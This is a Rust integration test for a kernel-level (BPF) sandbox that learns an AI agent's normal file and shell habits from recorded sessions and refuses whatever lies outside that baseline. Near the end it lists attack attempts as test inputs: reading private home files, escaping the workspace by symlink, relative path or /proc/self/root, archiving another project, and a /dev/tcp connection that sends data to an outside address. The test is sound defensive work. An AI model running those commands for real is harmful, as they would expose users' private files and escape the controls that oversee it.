//! The second stage on this host's kernel: real sessions are recorded, a baseline is trained, new sessions of the same
//! kind pass, and what none of them did is refused. Needs root and BPF; without root it says so.
#![expect(clippy::indexing_slicing, reason = "a place that is not there fails the test that looks for it")]
#![expect(clippy::unwrap_used, reason = "a test that cannot set its scene has failed")]

mod scene;

use bstr::ByteSlice;
use event::{Captured, Mode, Stage, Step, Tokeniser};
use models::corpus::{Corpus, Item};
use models::train;
use scene::Scene;
use std::convert::Infallible;
use std::sync::Arc;

const SECRET: &str = "THE-OTHER-PROJECT";

/// Recorded sessions as training reads them.
struct Recorded(Vec<Vec<Step>>);

impl Corpus for Recorded {
    type Error = Infallible;
    fn len(&self) -> usize {
        self.0.len()
    }
    fn workspace(&self, session: usize) -> u64 {
        session as u64
    }
    fn replay(&self, session: usize, sink: &mut dyn FnMut(Item<'_>)) -> Result<(), Infallible> {
        self.0[session].iter().for_each(|step| sink(Item::Step(step)));
        Ok(())
    }
}

/// One normal session in workspace `n`: reads its documents, takes notes in the home, replaces its own state
/// atomically, fills a cache that fans out, pipes, makes temporary files, and compiles a little with what is there.
fn normal(scene: &Scene, n: usize) -> String {
    let workspace = format!("home/projects/app{n}");
    for document in 0..4 {
        scene.write(&format!("{workspace}/docs/{n}-{document}.md"), "# Title\nsome words\n");
    }
    let home = scene.path("home").to_str().unwrap().to_owned();
    let w = scene.path(&workspace).to_str().unwrap().to_owned();
    format!(
        "cd {w}; export HOME={home}; ls -R . >/dev/null; cat docs/*.md | grep -c words; find . -name '*.md' | sort | head -3; \
         cat $HOME/.agentrc; echo summary > summary-{n}.md; sed -i s/words/terms/ docs/{n}-1.md; \
         echo note > $HOME/note-{n}.txt; cat $HOME/note-{n}.txt; \
         mkdir -p $HOME/.agent/cache/{n}; echo x > $HOME/.agent/cache/{n}/blob; \
         echo state-{n} > $HOME/.agent/state.tmp; mv $HOME/.agent/state.tmp $HOME/.agent/state; cat $HOME/.agent/state; \
         t=$(mktemp); date > $t; cat $t; rm $t; wc -l < docs/{n}-2.md; rm summary-{n}.md; awk '{{print $1}}' docs/{n}-3.md"
    )
}

fn recorded(scene: &mut Scene, n: usize) -> Vec<Step> {
    let workspace = format!("home/projects/app{n}");
    let script = normal(scene, n);
    let live = scene.open(Mode::Record, Some(&workspace), None);
    let output = scene.inside(&script);
    assert!(output.status.success(), "{output:?}");
    drop(live);
    let mut tokeniser = Tokeniser::new(scene.context(Some(&workspace)));
    scene
        .captured
        .drain(..)
        .filter_map(|captured| match captured {
            Captured::Event(event) => Some(tokeniser.read(&event)),
            Captured::Syscall(_) | Captured::Loss(_) => None,
        })
        .collect()
}

#[test]
fn clean_sessions_pass_and_what_none_of_them_did_is_refused() {
    let Some(mut scene) = Scene::new("habits") else { return };
    scene.write("home/.agentrc", "x\n");
    scene.write("home/letter.txt", SECRET);
    scene.write("home/Documents/tax.txt", SECRET);
    scene.write("home/projects/other/src/main.rs", SECRET);
    scene.write("elsewhere/x", SECRET);
    let sessions: Vec<Vec<Step>> = (0..12).map(|n| recorded(&mut scene, n)).collect();
    let options = train::Options {
        agent: "agent".parse().unwrap(),
        task: "task".parse().unwrap(),
        ..train::Options::default()
    };
    let baseline = Arc::new(train::train(&Recorded(sessions), options, &mut |_| {}).unwrap());

    for n in 20..24 {
        let script = normal(&scene, n);
        let started = std::time::Instant::now();
        let mut live =
            scene.open(Mode::Enforce, Some(&format!("home/projects/app{n}")), Some(baseline.clone()));
        let armed = started.elapsed();
        let output = scene.inside(&script);
        scene.pump(&mut live);
        let marks = live.coverage().marks;
        let (report, _) = live.finish(Some(0));
        println!("armed in {armed:?}, {marks} marks of T0, {:?}, p = {:?}", report.fanotify, report.score);
        assert!(output.status.success() && output.stderr.is_empty(), "{output:?}");
        assert_eq!((report.denied, report.lost), (0, 0), "{:#?}", report.denials);
    }

    let home = scene.path("home").to_str().unwrap().to_owned();
    let elsewhere = scene.path("elsewhere").to_str().unwrap().to_owned();
    let mut live = scene.open(Mode::Enforce, Some("home/projects/app0"), Some(baseline.clone()));
    for way in [
        format!("cat {home}/projects/other/src/main.rs"),
        format!("cat {home}/letter.txt"),
        format!("cat {home}/Documents/tax.txt"),
        format!("cd {home}/projects/app0 && cat ../other/src/main.rs"),
        format!("ln -s {home}/projects/other {home}/projects/app0/l; cat {home}/projects/app0/l/src/main.rs"),
        format!("cat {elsewhere}/x"),
        format!("cat /proc/self/root{home}/projects/other/src/main.rs"),
        format!("tar cf - -C {home}/projects other"),
    ] {
        let output = scene.inside(&way);
        assert!(!output.stdout.contains_str(SECRET), "{way}: {output:?}");
    }
    let sent = scene.inside("bash -c 'echo x > /dev/tcp/198.51.100.7/80'");
    assert!(sent.stderr.contains_str("not permitted"), "{sent:?}");
    // Another task, of which nothing was learned, and back.
    let task = "other".parse().unwrap();
    let closing = live.taking().for_task(&task).unwrap();
    live.switch(&task, None, closing).unwrap();
    assert!(scene.inside(&format!("cat {home}/letter.txt")).stdout.contains_str(SECRET));
    let back = models::Baseline { task: "third".parse().unwrap(), ..(*baseline).clone() };
    let entered = live.place().enter(&"third".parse().unwrap(), Arc::new(back)).unwrap();
    let task = "third".parse().unwrap();
    let closing = live.taking().for_task(&task).unwrap();
    live.switch(&task, Some(entered), closing).unwrap();
    assert!(!scene.inside(&format!("cat {home}/letter.txt")).stdout.contains_str(SECRET));
    assert_eq!(live.segment().index, 2);
    scene.pump(&mut live);
    let (report, _) = live.finish(None);
    assert_eq!(report.stopped_by, Some(Stage::T1), "{:#?}", report.denials.first());
    for reason in &report.reasons {
        println!("{reason}");
    }
    assert!(report.denials.iter().all(|denial| denial.stage != Stage::T0));
}
